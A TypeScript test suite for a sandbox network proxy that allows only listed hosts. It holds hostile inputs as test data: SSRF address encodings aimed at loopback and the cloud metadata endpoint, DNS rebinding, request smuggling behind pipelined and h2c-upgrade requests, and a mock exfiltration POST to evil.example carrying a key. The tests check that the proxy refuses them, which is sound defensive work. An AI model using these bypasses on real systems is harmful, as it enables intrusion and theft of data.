import { createHash, randomBytes } from 'node:crypto';
import { startProxy } from '@tau/testkit';
import { describe, expect, onTestFinished, test } from 'vitest';
import type { Destination } from '../src/sandbox/proxy/destination.ts';
import type { Verdict } from '../src/sandbox/proxy/judge.ts';
import { dial, joinAs, openPlace, serveTcp, serveWeb } from './proxy-place.ts';

async function ask(port: number, words: string): Promise<string> {
  const client = await dial(port);
  client.say(words);
  return client.toEnd();
}

function connectTo(authority: string, authorization: string): string {
  return `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n${authorization}\r\n\r\n`;
}

const named = (name: string, port: number) => [5, 1, 0, 3, name.length, ...Buffer.from(name), port >> 8, port & 255];
const login = (credentials: string) => {
  const [user = '', password = ''] = credentials.split(':');
  return [1, user.length, ...Buffer.from(user), password.length, ...Buffer.from(password)];
};

describe('what is allowed', () => {
  test('a tunnel, a plain request and SOCKS5 reach a listed host; the request without what was for the proxy', async () => {
    const web = await serveWeb();
    const { network, refusals } = openPlace();
    const { port, authorization, credentials } = await joinAs(network, 'one', 'shop.public');

    const tunnel = await dial(port);
    tunnel.say(connectTo(`shop.public:${web.port}`, authorization));
    expect((await tunnel.atLeast(39)).toString()).toBe('HTTP/1.1 200 Connection established\r\n\r\n');
    tunnel.say('GET /tunnel HTTP/1.1\r\nHost: shop.public\r\nConnection: close\r\n\r\n');
    expect(await tunnel.toEnd()).toContain('hello from outside');

    const posted = await ask(
      port,
      `POST http://shop.public:${web.port}/plain HTTP/1.1\r\nHost: other.public\r\n${authorization}\r\nContent-Length: 4\r\n\r\nbody`,
    );
    expect(posted).toContain('hello from outside');

    const socks = await dial(port);
    socks.say([5, 2, 0, 2]);
    expect([...(await socks.atLeast(2))]).toEqual([5, 2]);
    socks.say(login(credentials));
    expect([...(await socks.atLeast(4)).subarray(2)]).toEqual([1, 0]);
    socks.say(named('shop.public', web.port));
    expect([...(await socks.atLeast(14)).subarray(4, 6)]).toEqual([5, 0]);
    socks.say('GET /socks HTTP/1.1\r\nHost: shop.public\r\nConnection: close\r\n\r\n');
    expect(await socks.toEnd()).toContain('hello from outside');

    expect(web.seen.map(({ method, url }) => `${method} ${url}`)).toEqual(['GET /tunnel', 'POST /plain', 'GET /socks']);
    expect(web.seen[1]).toMatchObject({ body: 'body', headers: { host: `shop.public:${web.port}` } });
    expect(web.seen[1]?.headers).not.toHaveProperty('proxy-authorization');
    expect(refusals).toEqual([]);
  });

  test('bytes pass unchanged both ways, and an end in one direction leaves the other open', async () => {
    const sent = randomBytes(3_000_000);
    const server = await serveTcp((socket) => {
      const hash = createHash('sha256');
      socket.on('data', (chunk) => hash.update(chunk));
      // Answers only after the client has ended its side.
      socket.on('end', () => socket.end(`${hash.digest('hex')}${'x'.repeat(2_000_000)}`));
    });
    const { network } = openPlace();
    const { port, authorization } = await joinAs(network, 'one', 'data.public');
    const client = await dial(port);
    client.say(connectTo(`data.public:${server.port}`, authorization));
    await client.atLeast(39);
    client.socket.end(sent);
    const answer = (await client.toEnd()).slice(39);
    expect(answer.slice(0, 64)).toBe(createHash('sha256').update(sent).digest('hex'));
    expect(answer).toHaveLength(2_000_064);
  });

  test('a server that speaks first is heard, and a long answer to a reader that stops and goes on is not mixed up', async () => {
    const sent = Buffer.alloc(12_000_000);
    for (let at = 0; at < sent.length; at += 4) sent.writeUInt32LE(at, at);
    const server = await serveTcp((socket) => void socket.write('welcome', () => socket.end(sent)));
    const { network } = openPlace();
    const { port, authorization } = await joinAs(network, 'one', 'data.public');
    const client = await dial(port);
    client.say(connectTo(`data.public:${server.port}`, authorization));
    await client.atLeast(39 + 'welcome'.length);
    let stops = 0;
    client.socket.on('data', () => {
      stops += 1;
      if (stops % 10 !== 0) return;
      client.socket.pause();
      setTimeout(() => client.socket.resume(), 2);
    });
    await client.toEnd();
    const heard = client.heard().subarray(39);
    expect(heard.subarray(0, 7).toString()).toBe('welcome');
    expect(heard.subarray(7).equals(sent)).toBe(true);
    expect(stops).toBeGreaterThan(10);
  });

  test('a request to change the protocol keeps its connection, both ways', async () => {
    const server = await serveTcp((socket) => {
      socket.once('data', (head) => {
        expect(head.toString()).toContain('Connection: upgrade\r\n');
        socket.write('HTTP/1.1 101 Switching Protocols\r\n\r\n');
        socket.pipe(socket);
      });
    });
    const { network } = openPlace();
    const { port, authorization } = await joinAs(network, 'one', 'shop.public');
    const client = await dial(port);
    const lines = [`GET http://shop.public:${server.port}/ HTTP/1.1`, 'Connection: Upgrade', 'Upgrade: websocket'];
    client.say(`${[...lines, authorization].join('\r\n')}\r\n\r\n`);
    await client.atLeast(36);
    client.say('frames');
    expect((await client.atLeast(42)).toString()).toMatch(/^HTTP\/1\.1 101 .*frames$/s);
  });

  test('through the proxy that tau itself needs: tunnels by CONNECT, requests by the whole address', async () => {
    const web = await serveWeb();
    const outer = await startProxy({ target: `http://127.0.0.1:${web.port}`, credentials: 'me:secret' });
    const env = {
      HTTP_PROXY: outer.url.replace('//', '//me:secret@'),
      HTTPS_PROXY: outer.url.replace('//', '//me:secret@'),
    };
    const { network, refusals, looked } = openPlace({ env });
    const { port, authorization } = await joinAs(network, 'one', '*');
    expect(await ask(port, `GET http://far.example/a HTTP/1.1\r\n${authorization}\r\n\r\n`)).toContain(
      'hello from outside',
    );
    const tunnel = await dial(port);
    tunnel.say(connectTo('far.example:443', authorization));
    await tunnel.atLeast(39);
    tunnel.say('GET /b HTTP/1.1\r\nHost: far.example\r\nConnection: close\r\n\r\n');
    expect(await tunnel.toEnd()).toContain('hello from outside');
    expect(outer.passed).toEqual(['GET http://far.example/a', 'CONNECT far.example:443']);
    expect(looked).toEqual([]);
    expect(await ask(port, connectTo('metadata.internal:80', authorization))).toMatch(/^HTTP\/1\.1 403 /);
    expect(refusals).toMatchObject([{ host: 'metadata.internal' }]);
    await outer.close();
  });
});

describe('the environment', () => {
  test('leads there in both spellings, leaves loopback alone, and adds to what Java has', async () => {
    const { network } = openPlace({
      env: { MAVEN_OPTS: '-Xmx1g', GRADLE_OPTS: '-Dkey=hush' },
      isSecret: (value) => /hush/.test(value),
    });
    const { port, credentials, env } = await joinAs(network, 'one');
    const url = `http://${credentials}@127.0.0.1:${port}`;
    for (const name of ['http_proxy', 'https_proxy', 'all_proxy']) {
      expect([env[name], env[name.toUpperCase()]]).toEqual([url, url]);
    }
    expect([env.no_proxy, env.NO_PROXY]).toEqual(['localhost,127.0.0.1,::1', 'localhost,127.0.0.1,::1']);
    expect(env.MAVEN_OPTS).toMatch(new RegExp(`^-Xmx1g -Dhttp.proxyHost=127.0.0.1 -Dhttp.proxyPort=${port} `));
    expect(env.GRADLE_OPTS).toMatch(/^-Dhttp\.proxyHost/);
    expect(JSON.stringify(env)).not.toContain('hush');
    expect(env.MAVEN_OPTS).toMatch(/ -Dhttp\.nonProxyHosts=localhost\|127\.\*\|\[::1\]$/);
  });

  test('leads there under names of loopback that mean the machine, too', async () => {
    const { network } = openPlace();
    const { env } = await network.join({ id: 'one', hosts: [], machine: ['127.0.0.1'] });
    for (const name of ['no_proxy', 'NO_PROXY', 'npm_config_noproxy']) expect(env[name]).toBe('localhost,::1');
    expect(env.GRADLE_OPTS).toMatch(/ -Dhttp\.nonProxyHosts=localhost\|\[::1\]$/);
  });
});

describe('what is refused', () => {
  test('a host that no list names: at once, in one sentence, told once, and its name not even looked up', async () => {
    const { network, refusals, looked } = openPlace();
    const { port, authorization } = await joinAs(network, 'call-7', 'shop.public:443');
    const sentence = 'The sandbox refused evil.public:443: it is not among the allowed hosts.';
    for (let times = 0; times < 2; times++) {
      const answer = await ask(port, connectTo('evil.public:443', authorization));
      expect(answer.startsWith(`HTTP/1.1 403 ${sentence}\r\n`)).toBe(true);
      expect(answer.endsWith(`\r\n\r\n${sentence}\n`)).toBe(true);
    }
    expect(await ask(port, connectTo('shop.public:22', authorization))).toMatch(/^HTTP\/1\.1 403 /);
    expect(looked).toEqual([]);
    const reason = 'it is not among the allowed hosts';
    expect(refusals).toEqual([
      { command: 'call-7', host: 'evil.public', port: 443, reason },
      { command: 'call-7', host: 'shop.public', port: 22, reason },
    ]);
  });

  test.each([
    '127.0.0.1',
    '127.1',
    '2130706433',
    '0x7f000001',
    '0177.0.0.1',
    '0.0.0.0',
    '169.254.169.254',
    '10.0.0.1',
    '192.168.0.1',
    '[::1]',
    '[::ffff:127.0.0.1]',
    '[::ffff:a9fe:a9fe]',
    '[fd00:ec2::254]',
    'inner.private',
    'half.mixed',
  ])('%s is not connected to, even where every host is allowed', async (host) => {
    const { network, refusals } = openPlace();
    const { port, authorization } = await joinAs(network, 'one', '*');
    expect(await ask(port, connectTo(`${host}:80`, authorization))).toMatch(/^HTTP\/1\.1 403 .*not a public address/);
    expect(await ask(port, `GET http://${host}/ HTTP/1.1\r\n${authorization}\r\n\r\n`)).toMatch(/^HTTP\/1\.1 403 /);
    expect(refusals).toHaveLength(1);
  });

  test('a name that means something else the second time: it is looked up once, and connected to what was checked', async () => {
    const web = await serveWeb();
    const answers = [['127.0.0.1'], ['127.0.0.2']];
    const asked: string[] = [];
    const { network } = openPlace({
      lookup: async (host) => {
        asked.push(host);
        return answers.shift() ?? [];
      },
      // The first address counts as public, and the second does not.
      allowPrivate: ({ address }) => address === '127.0.0.1',
    });
    const { port, authorization } = await joinAs(network, 'one', 'rebind.example');
    const request = `GET http://rebind.example:${web.port}/ HTTP/1.1\r\n${authorization}\r\n\r\n`;
    expect(await ask(port, request)).toContain('hello from outside');
    expect(asked).toHaveLength(1);
    expect(await ask(port, request)).toMatch(/^HTTP\/1\.1 403 .*leads to 127\.0\.0\.2/);
    expect(asked).toHaveLength(2);
  });

  test('a redirect is a new request, and judged like one', async () => {
    const web = await serveWeb((_, response) => response.writeHead(302, { location: 'http://169.254.169.254/' }).end());
    const { network, refusals } = openPlace();
    const { port, authorization } = await joinAs(network, 'one', '*');
    const first = await ask(port, `GET http://shop.public:${web.port}/ HTTP/1.1\r\n${authorization}\r\n\r\n`);
    expect(first).toMatch(/^HTTP\/1\.1 302 /);
    const [, location = ''] = /location: (\S+)/i.exec(first) ?? [];
    expect(await ask(port, `GET ${location} HTTP/1.1\r\n${authorization}\r\n\r\n`)).toMatch(/^HTTP\/1\.1 403 /);
    expect(refusals).toMatchObject([{ host: '169.254.169.254', port: 80 }]);
  });

  test('a second request behind the first is not passed on, to nobody', async () => {
    const web = await serveWeb();
    const { network } = openPlace();
    const { port, authorization } = await joinAs(network, 'one', 'shop.public');
    const first = `POST http://shop.public:${web.port}/first HTTP/1.1\r\n${authorization}\r\nContent-Length: 2\r\n\r\nok`;
    const second = `GET http://evil.public:${web.port}/second HTTP/1.1\r\nHost: evil.public\r\n\r\n`;
    const answer = await ask(port, first + second);
    expect(answer.match(/HTTP\/1\.1 200/g)).toHaveLength(1);
    expect(web.seen).toMatchObject([{ url: '/first', body: 'ok' }]);
  });

  test.each([
    ['a protocol', ['Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABk']],
    ['a protocol, not told as a matter of the connection', ['Upgrade: h2c', 'HTTP2-Settings: AAMAAABk']],
    ['nothing', []],
    ['nothing, and says itself where it ends', ['Transfer-Encoding: chunked'], '0\r\n\r\n'],
  ])(
    'a request that asks for %s opens no way past the judge in the proxy that tau itself needs',
    async (_, asked, body = '') => {
      const web = await serveWeb();
      const outer = await startProxy({ target: `http://127.0.0.1:${web.port}` });
      onTestFinished(() => outer.close());
      const { network } = openPlace({ env: { HTTP_PROXY: outer.url } });
      const { port, authorization } = await joinAs(network, 'one', 'far.example');
      const client = await dial(port);
      client.say(`${['GET http://far.example/ok HTTP/1.1', authorization, ...asked].join('\r\n')}\r\n\r\n${body}`);
      await expect.poll(() => client.heard().toString()).toContain('hello from outside');
      client.say('POST http://evil.example/stolen HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 3\r\n\r\nkey');
      client.socket.end();
      await client.toEnd();
      expect(outer.passed).toEqual(['GET http://far.example/ok']);
      expect(web.seen).toMatchObject([{ url: '/ok', headers: { connection: 'close' } }]);
      expect(web.seen[0]?.headers).not.toHaveProperty('upgrade');
      expect(web.seen[0]?.headers).not.toHaveProperty('http2-settings');
    },
  );

  test('behind a request for another protocol every byte goes to its server, whatever host it names', async () => {
    const evil = await serveWeb();
    let heard = '';
    const server = await serveTcp((socket) => {
      socket.on('data', (chunk) => {
        if (heard === '') socket.write('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n');
        heard += chunk;
      });
      socket.once('end', () => socket.end());
    });
    const { network, refusals } = openPlace();
    const { port, authorization } = await joinAs(network, 'one', 'shop.public');
    const client = await dial(port);
    const lines = [`GET http://shop.public:${server.port}/ HTTP/1.1`, 'Connection: Upgrade', 'Upgrade: h2c'];
    client.say(`${[...lines, authorization].join('\r\n')}\r\n\r\n`);
    await client.atLeast(38);
    client.say(`GET http://evil.public:${evil.port}/ HTTP/1.1\r\nHost: evil.public\r\n\r\n`);
    client.socket.end();
    await client.toEnd();
    expect(heard).toContain('GET http://evil.public');
    expect(evil.seen).toEqual([]);
    // As a first request it is judged.
    expect(await ask(port, `GET http://evil.public:${evil.port}/ HTTP/1.1\r\n${authorization}\r\n\r\n`)).toMatch(
      / 403 /,
    );
    expect(refusals).toMatchObject([{ host: 'evil.public' }]);
  });

  test('SOCKS5: other hosts, waiting for connections, datagrams, no offer that is known', async () => {
    const { network, refusals } = openPlace();
    const { port, credentials } = await joinAs(network, 'one');
    const talk = async (...wish: number[]) => {
      const client = await dial(port);
      client.say([5, 1, 2]);
      await client.atLeast(2);
      client.say(login(credentials));
      await client.atLeast(4);
      client.say(wish);
      await client.toEnd();
      return client.heard()[5];
    };
    expect(await talk(...named('evil.public', 443))).toBe(2);
    expect(await talk(...named('good.public\0.evil', 443))).toBe(2);
    expect(await talk(5, 2, 0, 1, 0, 0, 0, 0, 0, 0)).toBe(7);
    expect(await talk(5, 3, 0, 1, 0, 0, 0, 0, 0, 0)).toBe(7);
    expect(refusals).toMatchObject([{ host: 'evil.public' }]);
    const stranger = await dial(port);
    stranger.say([5, 1, 1]);
    await stranger.toEnd();
    expect([...stranger.heard()]).toEqual([5, 255]);
    const impostor = await dial(port);
    impostor.say([5, 1, 2]);
    await impostor.atLeast(2);
    impostor.say(login('tau:guess'));
    await impostor.toEnd();
    expect([...impostor.heard()]).toEqual([5, 2, 1, 1]);
  });

  test('where nobody listens the answer says so, and that is no refusal', async () => {
    const { network, refusals } = openPlace();
    const { port, authorization } = await joinAs(network, 'one', '*');
    expect(await ask(port, connectTo('nowhere.example:443', authorization))).toMatch(
      /^HTTP\/1\.1 502 Cannot connect to nowhere\.example:443: no such host is known\.\r\n/,
    );
    expect(await ask(port, connectTo('shop.public:1', authorization))).toMatch(
      /^HTTP\/1\.1 502 .*nobody answers there/,
    );
    expect(refusals).toEqual([]);
  });
});

describe('who is slow', () => {
  test('a name that nobody answers for is given up in time', async () => {
    const { network } = openPlace({ lookup: () => new Promise(() => {}), limits: { connectMs: 50 } });
    const { port, authorization } = await joinAs(network, 'one', '*');
    expect(await ask(port, connectTo('slow.example:443', authorization))).toMatch(
      /^HTTP\/1\.1 502 Cannot connect to slow\.example:443: there was no connection in time\.\r\n/,
    );
  });
});

describe('who asks', () => {
  test('one command cannot use what its neighbour may, nor what an ended one could', async () => {
    const web = await serveWeb();
    const { network, refusals } = openPlace();
    const wide = await joinAs(network, 'wide', 'shop.public');
    const narrow = await joinAs(network, 'narrow');
    const words = (authorization: string) => `GET http://shop.public:${web.port}/ HTTP/1.1\r\n${authorization}\r\n\r\n`;
    expect(await ask(wide.port, words(wide.authorization))).toMatch(/^HTTP\/1\.1 200 /);
    expect(await ask(narrow.port, words(narrow.authorization))).toMatch(/^HTTP\/1\.1 403 /);
    wide.close();
    expect(await ask(wide.port, words(wide.authorization))).toMatch(/^HTTP\/1\.1 403 .*a command that is over/);
    expect(refusals).toMatchObject([{ command: 'narrow', host: 'shop.public' }]);
    expect(web.seen).toHaveLength(1);
  });

  test('who says nothing may what all may, and is asked who it is for the rest', async () => {
    const web = await serveWeb();
    const { network } = openPlace({ hosts: ['all.public'] });
    const one = await joinAs(network, 'one', 'shop.public');
    expect(await ask(one.port, `GET http://all.public:${web.port}/ HTTP/1.1\r\n\r\n`)).toMatch(/^HTTP\/1\.1 200 /);
    const answer = await ask(one.port, `GET http://shop.public:${web.port}/ HTTP/1.1\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 407 [^\r]*\r\n(.*\r\n)*Proxy-Authenticate: Basic realm="tau"\r\n/);
    expect(web.seen).toHaveLength(1);
  });

  test('the proxy of another session does not know this one', async () => {
    const mine = await joinAs(openPlace().network, 'one', '*');
    const other = await joinAs(openPlace().network, 'one', '*');
    expect(await ask(other.port, connectTo('shop.public:443', mine.authorization))).toMatch(/^HTTP\/1\.1 403 /);
  });
});

describe('a host that nobody decided about', () => {
  function asking(answer: Promise<Verdict> | Verdict) {
    const asked: (Destination & { command: string; signal: AbortSignal })[] = [];
    const mayConnect = async (to: Destination, command: string, signal: AbortSignal) => {
      asked.push({ ...to, command, signal });
      return answer;
    };
    return { asked, mayConnect };
  }

  test('twenty connections at once ask once, and later ones not again; another command asks for itself', async () => {
    const web = await serveWeb();
    let decide = (_: Verdict) => {};
    const { asked, mayConnect } = asking(new Promise((resolve) => (decide = resolve)));
    const { network } = openPlace({ mayConnect });
    const one = await joinAs(network, 'one');
    const words = ({ authorization }: { authorization: string }) =>
      `GET http://new.public:${web.port}/ HTTP/1.1\r\n${authorization}\r\n\r\n`;
    const answers = Array.from({ length: 20 }, () => ask(one.port, words(one)));
    await expect.poll(() => asked.length).toBe(1);
    decide({ allowed: true });
    for (const answer of await Promise.all(answers)) expect(answer).toMatch(/^HTTP\/1\.1 200 /);
    await ask(one.port, words(one));
    expect(asked).toMatchObject([{ command: 'one', host: 'new.public', port: web.port }]);
    const two = await joinAs(network, 'two');
    await ask(two.port, words(two));
    expect(asked.map(({ command }) => command)).toEqual(['one', 'two']);
  });

  test('a no is an answer for the whole command, and its reason reaches it', async () => {
    const { asked, mayConnect } = asking({ allowed: false, reason: 'the user said no' });
    const { network, refusals } = openPlace({ mayConnect });
    const { port, authorization } = await joinAs(network, 'one');
    for (const to of ['new.public:443', 'new.public:80', 'new.public:443']) {
      expect(await ask(port, connectTo(to, authorization))).toMatch(/^HTTP\/1\.1 403 .*the user said no\.\r\n/);
    }
    expect(asked).toHaveLength(1);
    expect(refusals).toHaveLength(2);
  });

  test('whoever decides may fail: then it is no', async () => {
    const { network } = openPlace({ mayConnect: () => Promise.reject(new Error('no terminal')) });
    const { port, authorization } = await joinAs(network, 'one');
    expect(await ask(port, connectTo('new.public:443', authorization))).toMatch(/^HTTP\/1\.1 403 .*\(no terminal\)/);
  });

  test('one command asks about so many hosts and no more', async () => {
    const { asked, mayConnect } = asking({ allowed: false, reason: 'no' });
    const { network, refusals } = openPlace({ mayConnect, limits: { hostsEach: 3, refusalsEach: 4 } });
    const { port, authorization } = await joinAs(network, 'one');
    for (let index = 0; index < 6; index++) await ask(port, connectTo(`h${index}.public:443`, authorization));
    expect(asked).toHaveLength(3);
    expect(refusals).toHaveLength(4);
    expect(refusals[3]?.reason).toBe(
      'this command tried more than 3 hosts; more refusals of this command are not told',
    );
  });

  test('when the command is over, the question is taken back and its connections end', async () => {
    const { asked, mayConnect } = asking(new Promise(() => {}));
    const server = await serveTcp(() => {});
    const { network } = openPlace({ mayConnect });
    const one = await joinAs(network, 'one', 'shop.public');
    const waits = await dial(one.port);
    waits.say(connectTo('new.public:443', one.authorization));
    await expect.poll(() => asked.length).toBe(1);
    const open = await dial(one.port);
    open.say(connectTo(`shop.public:${server.port}`, one.authorization));
    await open.atLeast(39);
    one.close();
    expect(asked[0]?.signal.aborted).toBe(true);
    expect(await waits.toEnd()).toBe('');
    expect(await open.toEnd()).toMatch(/^HTTP\/1\.1 200 [^\r]*\r\n\r\n$/);
  });
});

describe('bounds', () => {
  test('who speaks too slowly is left, and who speaks without end is refused', async () => {
    const { port } = await joinAs(openPlace({ limits: { helloMs: 100 } }).network, 'one');
    const slow = await dial(port);
    const drip = setInterval(() => slow.say('G'), 10);
    expect(await slow.toEnd()).toBe('');
    clearInterval(drip);
    const silent = await dial(port);
    expect(await silent.toEnd()).toBe('');
    // With time to be heard: what is said is not always read at once.
    const patient = await joinAs(openPlace({ limits: { headBytes: 1000 } }).network, 'one');
    expect(await ask(patient.port, 'x'.repeat(5000))).toMatch(/^HTTP\/1\.1 431 /);
  });

  test('a flood of connections is cut off, each command has its share, and room comes back', async () => {
    const server = await serveTcp((socket) => socket.resume().once('end', () => socket.end()));
    const { network } = openPlace({ limits: { connections: 8, connectionsEach: 2 } });
    const one = await joinAs(network, 'one', 'shop.public');
    const two = await joinAs(network, 'two', 'shop.public');
    const to = `shop.public:${server.port}`;
    const open = async ({ port, authorization }: typeof one) => {
      const client = await dial(port);
      client.say(connectTo(to, authorization));
      return { client, status: (await client.atLeast(12)).toString().slice(9, 12) };
    };
    const held = [await open(one), await open(one)];
    expect(held.map(({ status }) => status)).toEqual(['200', '200']);
    expect((await open(one)).status).toBe('503');
    expect((await open(two)).status).toBe('200');
    const flood = await Promise.all(Array.from({ length: 12 }, () => dial(one.port)));
    const last = flood[11];
    expect(await last?.toEnd()).toBe('');
    for (const { socket } of flood) socket.destroy();
    held[0]?.client.socket.destroy();
    const again = async () => {
      const { client, status } = await open(one);
      client.socket.destroy();
      return status;
    };
    await expect.poll(again).toBe('200');
  });

  test('a reader that stops stops the sender too: nothing piles up in between', async () => {
    let written = 0;
    const server = await serveTcp((socket) => {
      const chunk = Buffer.alloc(256 * 1024);
      const more = () => {
        while (written < 400 * chunk.length) {
          written += chunk.length;
          if (!socket.write(chunk)) return void socket.once('drain', more);
        }
        return undefined;
      };
      more();
    });
    const { network } = openPlace();
    const { port, authorization } = await joinAs(network, 'one', 'shop.public');
    const client = await dial(port);
    client.say(connectTo(`shop.public:${server.port}`, authorization));
    await client.atLeast(39);
    client.socket.pause();
    let before = -1;
    await expect
      .poll(
        () => {
          const still = written === before;
          before = written;
          return still;
        },
        { interval: 100 },
      )
      .toBe(true);
    expect(written).toBeLessThan(60 * 1024 * 1024);
  });

  test('after the end of the session nothing can join or connect', async () => {
    const { network } = openPlace();
    const one = await joinAs(network, 'one', '*');
    const open = await dial(one.port);
    await network.close();
    expect(await open.toEnd()).toBe('');
    await expect(network.join({ id: 'two', hosts: [] })).rejects.toThrow('the session is over');
  });
});
